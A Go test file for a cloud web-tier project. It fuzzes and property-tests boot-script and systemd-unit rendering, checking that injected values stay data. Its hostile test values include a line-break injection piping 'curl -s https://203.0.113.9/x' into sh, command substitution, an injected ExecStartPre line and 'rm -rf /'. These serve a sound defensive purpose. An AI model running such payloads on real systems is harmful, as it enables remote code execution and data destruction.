package compute

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/coreos/go-systemd/v22/unit"
	"mvdan.cc/sh/v3/syntax"

	"github.com/platformstarter/elastic-web-tier/constructs/config"
)

// The properties of this file: whatever a setting holds, the boot script's
// commands stay those of a benign value, and the setting reaches the
// service as exactly its value. A real shell parser (mvdan.cc/sh/v3, bash
// dialect) reads the script, go-systemd reads the unit, and the unit's
// Environment= words are unquoted by systemdWords below, which follows
// systemd.syntax(7) apart from the renderer. systemd-analyze verify, where
// installed, checks the same lines with systemd's own parser.

// script is a boot script as the shell reads it.
type script struct {
	// shape is the script printed back from its syntax tree with every
	// heredoc body replaced by a marker: its commands and their words.
	shape string
	// heredocs are the bodies, in order, as the shell writes them.
	heredocs []string
}

// parseScript parses a bash script and requires every heredoc to have a
// quoted delimiter and a body with no expansion in it (pure data).
func parseScript(src string) (script, error) {
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(src), "user-data")
	if err != nil {
		return script{}, fmt.Errorf("bash cannot parse the script: %v", err)
	}
	var s script
	var problems []string
	syntax.Walk(f, func(n syntax.Node) bool {
		r, ok := n.(*syntax.Redirect)
		if !ok || r.Hdoc == nil {
			return true
		}
		if len(r.Word.Parts) != 1 {
			problems = append(problems, fmt.Sprintf("heredoc delimiter of %d parts", len(r.Word.Parts)))
		} else if _, quoted := r.Word.Parts[0].(*syntax.SglQuoted); !quoted {
			problems = append(problems, fmt.Sprintf("heredoc delimiter %T is not single-quoted: its body is expanded", r.Word.Parts[0]))
		}
		var body strings.Builder
		for _, p := range r.Hdoc.Parts {
			lit, ok := p.(*syntax.Lit)
			if !ok {
				problems = append(problems, fmt.Sprintf("heredoc body holds a %T (an expansion)", p))
				continue
			}
			body.WriteString(lit.Value)
		}
		s.heredocs = append(s.heredocs, body.String())
		r.Hdoc = &syntax.Word{Parts: []syntax.WordPart{&syntax.Lit{Value: "<data>\n"}}}
		return true
	})
	if len(problems) > 0 {
		return script{}, errors.New(strings.Join(problems, "; "))
	}
	var b strings.Builder
	if err := syntax.NewPrinter().Print(&b, f); err != nil {
		return script{}, err
	}
	s.shape = b.String()
	return s, nil
}

// systemdUnit is a unit file as systemd reads it.
type systemdUnit struct {
	// directives are every option but Environment=, "[Section] Name=Value".
	directives []string
	// env are the Environment= assignments, [name, value], in order.
	env [][2]string
}

// parseUnit reads a unit with go-systemd and unquotes each Environment=
// line; each must be exactly one assignment.
func parseUnit(text string) (systemdUnit, error) {
	opts, err := unit.DeserializeOptions(strings.NewReader(text))
	if err != nil {
		return systemdUnit{}, fmt.Errorf("unit: %v", err)
	}
	var u systemdUnit
	for _, o := range opts {
		if o.Name != "Environment" {
			u.directives = append(u.directives, "["+o.Section+"] "+o.Name+"="+o.Value)
			continue
		}
		words, err := systemdWords(o.Value)
		if err != nil {
			return systemdUnit{}, fmt.Errorf("Environment=%s: %v", o.Value, err)
		}
		if len(words) != 1 {
			return systemdUnit{}, fmt.Errorf("Environment=%s is %d assignments %q, want 1", o.Value, len(words), words)
		}
		name, value, ok := strings.Cut(words[0], "=")
		if !ok {
			return systemdUnit{}, fmt.Errorf("Environment=%s: %q is no assignment", o.Value, words[0])
		}
		u.env = append(u.env, [2]string{name, value})
	}
	return u, nil
}

// systemdWords splits and unquotes a setting as systemd.syntax(7)
// "Quoting" says (whitespace-separated words; a word may be wrapped whole in
// double or single quotes; C-style escapes; a closing quote followed by
// whitespace or the end), then resolves the specifier %% to % (systemd.unit(5)
// "Specifiers"; the only one a rendered value may hold). It refuses what
// systemd would warn about or change: an unknown escape, an unclosed quote,
// any other specifier.
// https://www.freedesktop.org/software/systemd/man/latest/systemd.syntax.html#Quoting
func systemdWords(s string) ([]string, error) {
	var words []string
	i := 0
	for {
		for i < len(s) && (s[i] == ' ' || s[i] == '\t') {
			i++
		}
		if i == len(s) {
			return words, nil
		}
		var w []byte
		var quote byte
		if s[i] == '"' || s[i] == '\'' {
			quote = s[i]
			i++
		}
		for {
			if i == len(s) {
				if quote != 0 {
					return nil, fmt.Errorf("unclosed %c", quote)
				}
				break
			}
			c := s[i]
			if quote == 0 && (c == ' ' || c == '\t') {
				break
			}
			if quote != 0 && c == quote {
				i++
				if i < len(s) && s[i] != ' ' && s[i] != '\t' {
					return nil, fmt.Errorf("closing %c followed by %q", quote, s[i])
				}
				break
			}
			if quote == 0 && (c == '"' || c == '\'') {
				return nil, fmt.Errorf("quote %c inside an unquoted word", c)
			}
			if c != '\\' {
				w = append(w, c)
				i++
				continue
			}
			if i+1 == len(s) {
				return nil, errors.New("trailing backslash")
			}
			e := s[i+1]
			i += 2
			switch e {
			case 'a':
				w = append(w, '\a')
			case 'b':
				w = append(w, '\b')
			case 'f':
				w = append(w, '\f')
			case 'n':
				w = append(w, '\n')
			case 'r':
				w = append(w, '\r')
			case 't':
				w = append(w, '\t')
			case 'v':
				w = append(w, '\v')
			case 's':
				w = append(w, ' ')
			case '\\', '"', '\'':
				w = append(w, e)
			case 'x':
				if i+2 > len(s) {
					return nil, errors.New(`short \x escape`)
				}
				v, err := strconv.ParseUint(s[i:i+2], 16, 8)
				if err != nil {
					return nil, fmt.Errorf(`\x%s: %v`, s[i:i+2], err)
				}
				w = append(w, byte(v))
				i += 2
			default:
				return nil, fmt.Errorf(`unknown escape \%c`, e)
			}
		}
		word, err := specifiers(string(w))
		if err != nil {
			return nil, err
		}
		words = append(words, word)
	}
}

// specifiers resolves %% to %; any other specifier is an error here.
func specifiers(s string) (string, error) {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '%' {
			b.WriteByte(s[i])
			continue
		}
		if i+1 < len(s) && s[i+1] == '%' {
			b.WriteByte('%')
			i++
			continue
		}
		return "", fmt.Errorf("specifier %q would be replaced by systemd", s[i:min(i+2, len(s))])
	}
	return b.String(), nil
}

// TestSystemdWords: the test's reading of systemd quoting, on the examples
// of systemd.syntax(7) and on what it must refuse.
func TestSystemdWords(t *testing.T) {
	cases := []struct {
		in   string
		want []string
		err  bool
	}{
		{`a b`, []string{"a", "b"}, false},
		{`"a b" 'c d'`, []string{"a b", "c d"}, false},
		{`"A=x \"y\" \\ %% \n\t\x41\s"`, []string{"A=x \"y\" \\ % \n\tA "}, false},
		{`"a"b`, nil, true},
		{`"a`, nil, true},
		{`"a\qb"`, nil, true},
		{`"%n"`, nil, true},
		{`a"b`, nil, true},
	}
	for _, c := range cases {
		got, err := systemdWords(c.in)
		if (err != nil) != c.err || !slices.Equal(got, c.want) {
			t.Errorf("systemdWords(%q) = %q, %v; want %q, error %v", c.in, got, err, c.want, c.err)
		}
	}
}

// Benign renderings: what every other value's structure must equal.
var (
	benignDemo      = sync.OnceValues(func() (string, error) { return UserData(8080, "/health") })
	benignContainer = sync.OnceValues(func() (string, error) { return ContainerUserData("nginx:stable", 80, 8080) })
	benignECR       = sync.OnceValues(func() (string, error) {
		return ContainerUserData("123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.2", 80, 8080)
	})
)

// structureOf parses a script and its unit (the last heredoc).
func structureOf(src string) (script, systemdUnit, error) {
	s, err := parseScript(src)
	if err != nil {
		return s, systemdUnit{}, err
	}
	if len(s.heredocs) == 0 {
		return s, systemdUnit{}, errors.New("no heredoc: the unit is not written")
	}
	u, err := parseUnit(s.heredocs[len(s.heredocs)-1])
	return s, u, err
}

// sameStructure checks a rendered script against a benign one: the same
// shell commands and words, the same heredoc bodies but the unit, the same
// unit directives, and the unit's environment exactly env.
func sameStructure(got, benign string, env [][2]string) error {
	gs, gu, err := structureOf(got)
	if err != nil {
		return err
	}
	bs, bu, err := structureOf(benign)
	if err != nil {
		return fmt.Errorf("benign script: %v", err)
	}
	if gs.shape != bs.shape {
		return fmt.Errorf("the script's commands changed:\n%s\nwant:\n%s", gs.shape, bs.shape)
	}
	if !slices.Equal(gs.heredocs[:len(gs.heredocs)-1], bs.heredocs[:len(bs.heredocs)-1]) {
		return errors.New("a heredoc other than the unit changed")
	}
	if !slices.Equal(gu.directives, bu.directives) {
		return fmt.Errorf("the unit's directives changed:\n%q\nwant:\n%q", gu.directives, bu.directives)
	}
	if !slices.Equal(gu.env, env) {
		return fmt.Errorf("the unit's environment is %q, want %q", gu.env, env)
	}
	return nil
}

// checkDemo renders the demo app's script for a port and health path and
// checks its structure. A value the renderer refuses must be one validation
// refuses too.
func checkDemo(port int, path string) (rendered bool, err error) {
	benign, err := benignDemo()
	if err != nil {
		return false, fmt.Errorf("benign: %v", err)
	}
	ud, err := UserData(port, path)
	if err != nil {
		if config.CheckHealthPath(path) == "" {
			return false, fmt.Errorf("health path %q passes validation but does not render: %v", path, err)
		}
		return false, nil
	}
	return true, sameStructure(ud, benign, [][2]string{{"APP_PORT", strconv.Itoa(port)}, {"HEALTH_PATH", path}})
}

// checkContainer does the same for compute.app.
func checkContainer(image string, port, appPort int) (rendered bool, err error) {
	ud, err := ContainerUserData(image, port, appPort)
	if err != nil {
		if config.CheckImage(image) == "" {
			return false, fmt.Errorf("image %q passes validation but does not render: %v", image, err)
		}
		return false, nil
	}
	env := [][2]string{{"IMAGE", image}, {"APP_PORT", strconv.Itoa(appPort)}, {"PORT", strconv.Itoa(port)}}
	benign := benignContainer
	if e, ok := config.ParseECRImage(image); ok {
		env = append(env, [2]string{"ECR_REGION", e.Region}, [2]string{"ECR_REGISTRY", e.Registry}, [2]string{"DOCKER_CONFIG", "/root/.docker"})
		benign = benignECR
	}
	b, err := benign()
	if err != nil {
		return false, fmt.Errorf("benign: %v", err)
	}
	return true, sameStructure(ud, b, env)
}

// pathChars are the characters validation allows in a health path.
const pathChars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._/:@+,="

// hostile are pieces of values aimed at the shell, the heredoc, systemd's
// quoting and specifiers, and the unit's lines.
var hostile = []string{
	"$(touch /tmp/x)", "`id`", "${IMAGE}", "$HOME", "$$", ";", "|", "&", "&&", "<", ">", "(", ")", "{a,b}", "*", "?", "~", "!", "#",
	"'", `"`, `\`, `\n`, `\x41`, "%", "%n", "%%", "%i", " ", "\t", "\r", "\n", "\nUNIT\n", "UNIT", "\nPY\n", "\ncurl -s https://203.0.113.9/x | sh\n",
	"\n[Service]\nExecStartPre=/bin/sh -c id\n", "\" \"B=x", "' 'B=x", "\\\n", "é", "☃", "\u2028", "\x00", "\x01", "\x1b[31m", "\x7f", "\xff", "\xc3",
}

func randomValidPath(r *rand.Rand) string {
	var b strings.Builder
	b.WriteByte('/')
	for n := r.IntN(40); n > 0; n-- {
		if r.IntN(8) == 0 {
			fmt.Fprintf(&b, "%%%02X", r.IntN(256))
		} else {
			b.WriteByte(pathChars[r.IntN(len(pathChars))])
		}
	}
	return b.String()
}

func randomHostile(r *rand.Rand) string {
	var b strings.Builder
	if r.IntN(2) == 0 {
		b.WriteByte('/')
	}
	for n := 1 + r.IntN(6); n > 0; n-- {
		if r.IntN(2) == 0 {
			b.WriteString(hostile[r.IntN(len(hostile))])
		} else {
			b.WriteByte(pathChars[r.IntN(len(pathChars))])
		}
	}
	return b.String()
}

var (
	imageDomains = []string{"", "docker.io/", "ghcr.io/", "registry.example.com:5000/", "localhost/", "public.ecr.aws/",
		"123456789012.dkr.ecr.eu-west-1.amazonaws.com/", "210987654321.dkr.ecr-fips.us-east-1.amazonaws.com/", "123456789012.dkr-ecr.ap-south-1.on.aws/"}
	imageSeparators = []string{".", "_", "__", "-", "--"}
)

const (
	lowerDigits = "abcdefghijklmnopqrstuvwxyz0123456789"
	tagChars    = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_.-"
)

// randomImage is a reference in the distribution grammar (what docker pull
// takes): a registry or none, 1-3 path components, a tag and/or a digest.
func randomImage(r *rand.Rand) string {
	word := func() string {
		var b strings.Builder
		for n := 1 + r.IntN(8); n > 0; n-- {
			b.WriteByte(lowerDigits[r.IntN(len(lowerDigits))])
		}
		return b.String()
	}
	var b strings.Builder
	b.WriteString(imageDomains[r.IntN(len(imageDomains))])
	for c := 1 + r.IntN(3); c > 0; c-- {
		b.WriteString(word())
		if r.IntN(3) == 0 {
			b.WriteString(imageSeparators[r.IntN(len(imageSeparators))] + word())
		}
		if c > 1 {
			b.WriteByte('/')
		}
	}
	if r.IntN(3) > 0 {
		b.WriteByte(':')
		b.WriteByte(tagChars[r.IntN(len(tagChars)-2)]) // not . or - first
		for n := r.IntN(20); n > 0; n-- {
			b.WriteByte(tagChars[r.IntN(len(tagChars))])
		}
	}
	if r.IntN(4) == 0 {
		b.WriteString("@sha256:")
		for range 64 {
			b.WriteByte("0123456789abcdef"[r.IntN(16)])
		}
	}
	return b.String()
}

// TestRenderedStructureProperty renders the boot scripts for thousands of
// values (a fixed seed: the same values on every run): values validation
// accepts, built from the allowed characters and the image grammar, which
// must all render; and hostile ones, which must render with the same
// structure or be refused by both the renderer and validation.
func TestRenderedStructureProperty(t *testing.T) {
	r := rand.New(rand.NewPCG(23, 1))
	n := 3000
	if testing.Short() {
		n = 300
	}
	port := func() int { return 1024 + r.IntN(65536-1024) }

	for range n {
		p := randomValidPath(r)
		if msg := config.CheckHealthPath(p); msg != "" {
			t.Fatalf("generated health path %q is refused (%s): the generator or validation is wrong", p, msg)
		}
		if rendered, err := checkDemo(port(), p); err != nil || !rendered {
			t.Fatalf("health path %q: rendered %v: %v", p, rendered, err)
		}
	}

	renderedHostile, refused, lineBreaks := 0, 0, 0
	for range n {
		p := randomHostile(r)
		rendered, err := checkDemo(port(), p)
		if err != nil {
			t.Fatalf("health path %q: %v", p, err)
		}
		if !rendered {
			refused++
			continue
		}
		renderedHostile++
		if strings.ContainsAny(p, "\n\r") {
			lineBreaks++
		}
	}
	// The hostile values must really have gone through the renderer.
	if renderedHostile < n/2 || lineBreaks < n/20 {
		t.Errorf("only %d of %d hostile health paths rendered (%d with line breaks; %d refused): the property proves little", renderedHostile, n, lineBreaks, refused)
	}

	ecr := 0
	for range n {
		img := randomImage(r)
		if msg := config.CheckImage(img); msg != "" {
			t.Fatalf("generated image %q is refused (%s): the generator or validation is wrong", img, msg)
		}
		if _, ok := config.ParseECRImage(img); ok {
			ecr++
		}
		if rendered, err := checkContainer(img, 1+r.IntN(65535), port()); err != nil || !rendered {
			t.Fatalf("image %q: rendered %v: %v", img, rendered, err)
		}
	}
	if ecr < n/10 {
		t.Errorf("only %d of %d images were ECR images", ecr, n)
	}
	for range n {
		img := randomImage(r)
		h := hostile[r.IntN(len(hostile))]
		at := r.IntN(len(img) + 1)
		img = img[:at] + h + img[at:]
		if _, err := checkContainer(img, r.IntN(1<<20)-1000, r.IntN(1<<20)-1000); err != nil {
			t.Fatalf("image %q: %v", img, err)
		}
	}
}

// TestKnownAttacks: the values of the finding, by name.
func TestKnownAttacks(t *testing.T) {
	for _, p := range []string{"/h$(touch /tmp/x)", "/h\ncurl -s https://203.0.113.9/x | sh", "/h\nUNIT\ncurl -s https://203.0.113.9/x | sh\n", "/%n%i", `/"; id; "`} {
		rendered, err := checkDemo(8080, p)
		if err != nil {
			t.Errorf("health path %q: %v", p, err)
		} else if !rendered {
			t.Errorf("health path %q: refused by the renderer; want it carried as data", p)
		}
		if config.CheckHealthPath(p) == "" {
			t.Errorf("health path %q passes validation", p)
		}
	}
}

// FuzzUserData: go test -run '^$' -fuzz FuzzUserData ./constructs/compute/
func FuzzUserData(f *testing.F) {
	f.Add(8080, "/health")
	f.Add(8080, "/h$(touch /tmp/x)")
	f.Add(8080, "/h\ncurl -s https://203.0.113.9/x | sh")
	f.Add(8080, "/h\nUNIT\nid\n")
	f.Add(1, "/a%2Fb")
	f.Add(-1, `/"'\%%n`)
	f.Add(65535, "/\x00\xff\u2028")
	for _, h := range hostile {
		f.Add(8080, "/"+h)
	}
	f.Fuzz(func(t *testing.T, port int, path string) {
		if _, err := checkDemo(port, path); err != nil {
			t.Fatalf("port %d health path %q: %v", port, path, err)
		}
	})
}

// FuzzContainerUserData: go test -run '^$' -fuzz FuzzContainerUserData ./constructs/compute/
func FuzzContainerUserData(f *testing.F) {
	f.Add("nginx:stable", 80, 8080)
	f.Add("123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.2", 8080, 8080)
	f.Add("123456789012.dkr-ecr.ap-south-1.on.aws/team/web@sha256:"+strings.Repeat("0", 64), 1, 65535)
	f.Add("nginx:stable; rm -rf /", 80, 8080)
	f.Add("-v/:/host nginx", 80, 8080)
	f.Add("nginx\nUNIT\nid", 80, 8080)
	for _, h := range hostile {
		f.Add("nginx:"+h, 80, 8080)
	}
	f.Fuzz(func(t *testing.T, image string, port, appPort int) {
		if _, err := checkContainer(image, port, appPort); err != nil {
			t.Fatalf("image %q port %d app port %d: %v", image, port, appPort, err)
		}
	})
}

// FuzzUnitEnv: any value unitEnv accepts is one Environment= line, one
// assignment, and reads back as exactly the value; it refuses only what
// systemd could not carry (not UTF-8, control characters but \t \n \r).
func FuzzUnitEnv(f *testing.F) {
	for _, h := range hostile {
		f.Add(h)
	}
	f.Add("a b \"c\" 'd' \\ % %% $X ${Y}")
	f.Fuzz(func(t *testing.T, value string) {
		line, err := unitEnv("V", value)
		if err != nil {
			if systemdCarries(value) {
				t.Fatalf("unitEnv(%q) refused: %v", value, err)
			}
			return
		}
		if !systemdCarries(value) {
			t.Fatalf("unitEnv(%q) = %q, want it refused", value, line)
		}
		if strings.ContainsAny(line, "\n\r") {
			t.Fatalf("unitEnv(%q) = %q spans lines", value, line)
		}
		u, err := parseUnit("[Service]\n" + line + "\n")
		if err != nil {
			t.Fatalf("unitEnv(%q) = %q: %v", value, line, err)
		}
		if want := [][2]string{{"V", value}}; !slices.Equal(u.env, want) {
			t.Fatalf("unitEnv(%q) = %q reads back as %q", value, line, u.env)
		}
	})
}

// systemdCarries says whether systemd keeps value as an environment
// variable: UTF-8, no control character but tab, line feed, carriage return.
func systemdCarries(value string) bool {
	if !utf8.ValidString(value) {
		return false
	}
	for _, r := range value {
		if (r < 0x20 && r != '\t' && r != '\n' && r != '\r') || r == 0x7f {
			return false
		}
	}
	return true
}

// TestUnitEnvRoundTrip: spaces, quotes, %, \ and line breaks each come back
// as one assignment holding exactly the value.
func TestUnitEnvRoundTrip(t *testing.T) {
	for _, v := range []string{"", "a b", `say "hi"`, "it's", `C:\dir\`, "100%", "%n%i%%", "$HOME ${IMAGE} $$", "line\nbreak", "tab\there", "cr\r", "é☃", "\" \"B=x", "UNIT"} {
		line, err := unitEnv("V", v)
		if err != nil {
			t.Errorf("unitEnv(%q): %v", v, err)
			continue
		}
		u, err := parseUnit("[Service]\n" + line + "\n")
		if err != nil || !slices.Equal(u.env, [][2]string{{"V", v}}) {
			t.Errorf("unitEnv(%q) = %s reads back as %q (%v)", v, line, u.env, err)
		}
	}
	for _, v := range []string{"\x00", "a\x01b", "\x1b[31m", "\x7f", "\xff"} {
		if line, err := unitEnv("V", v); err == nil {
			t.Errorf("unitEnv(%q) = %s, want an error (systemd would not keep it)", v, line)
		}
	}
	if _, err := unitEnv("1V", "x"); err == nil {
		t.Errorf("unitEnv accepted the variable name 1V")
	}
}

// TestSystemdAcceptsUnits runs systemd's own parser (systemd-analyze
// verify) over the Environment= lines of units rendered for hostile values,
// and over the whole demo unit: no warning. A line that is wrong the way an
// unquoted value would be must draw one (so the check can fail).
func TestSystemdAcceptsUnits(t *testing.T) {
	analyze, err := exec.LookPath("systemd-analyze")
	if err != nil {
		t.Skip("systemd-analyze not installed; FuzzUnitEnv and parseUnit check the quoting")
	}
	verify := func(t *testing.T, body string) string {
		t.Helper()
		dir := t.TempDir()
		path := filepath.Join(dir, "webapp-check.service")
		if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		out, _ := exec.Command(analyze, "verify", "--man=no", path).CombinedOutput()
		return string(out)
	}
	envOnly := func(u string) string {
		var b strings.Builder
		b.WriteString("[Unit]\nDescription=check\n\n[Service]\nType=oneshot\nExecStart=/bin/true\n")
		for _, l := range strings.Split(u, "\n") {
			if strings.HasPrefix(l, "Environment=") {
				b.WriteString(l + "\n")
			}
		}
		return b.String()
	}
	if out := verify(t, envOnly("Environment=\"A=a\\qb\"\nEnvironment=\"B=%z\"")); !strings.Contains(out, "Invalid syntax") || !strings.Contains(out, "specifiers") {
		t.Fatalf("systemd-analyze verify passed badly quoted lines (output %q): the check cannot fail", out)
	}
	// One unit holding the Environment= lines rendered for every value
	// (systemd-analyze takes a moment per call); a warning names its line.
	var units []string
	values := append([]string{"/health", "/h$(touch /tmp/x)", "/h\ncurl -s https://203.0.113.9/x | sh", `/a b "c" 'd' \ %n %% $X`}, hostile...)
	for _, v := range values {
		if u, err := demoUnit(8080, v); err == nil { // else not carried: the renderer refuses it (see FuzzUnitEnv)
			units = append(units, u)
		}
	}
	for _, img := range []string{"nginx:stable", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.2"} {
		u, err := containerUnit(img, 80, 8080)
		if err != nil {
			t.Fatal(err)
		}
		units = append(units, u)
	}
	if len(units) < len(values)/2 {
		t.Fatalf("only %d of %d values rendered", len(units), len(values)+2)
	}
	if body := envOnly(strings.Join(units, "\n")); strings.Count(body, "Environment=") < 2*len(units) {
		t.Fatalf("the check unit has too few Environment= lines:\n%s", body)
	} else if out := verify(t, body); out != "" {
		t.Errorf("systemd-analyze verify says:\n%s\nof:\n%s", out, body)
	}
	// Whole units, where their commands exist (verify checks them).
	whole := []struct {
		exe    string
		render func() (string, error)
	}{
		{"/usr/bin/python3", func() (string, error) { return demoUnit(8080, "/health") }},
		{"/usr/bin/docker", func() (string, error) { return containerUnit("nginx:stable", 80, 8080) }},
		{"/usr/bin/docker", func() (string, error) {
			return containerUnit("123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.2", 80, 8080)
		}},
	}
	for _, w := range whole {
		if _, err := os.Stat(w.exe); err != nil {
			t.Logf("%s is not installed: its whole unit is not verified", w.exe)
			continue
		}
		u, err := w.render()
		if err != nil {
			t.Fatal(err)
		}
		if out := verify(t, u); out != "" {
			t.Errorf("systemd-analyze verify says:\n%s\nof:\n%s", out, u)
		}
	}
}
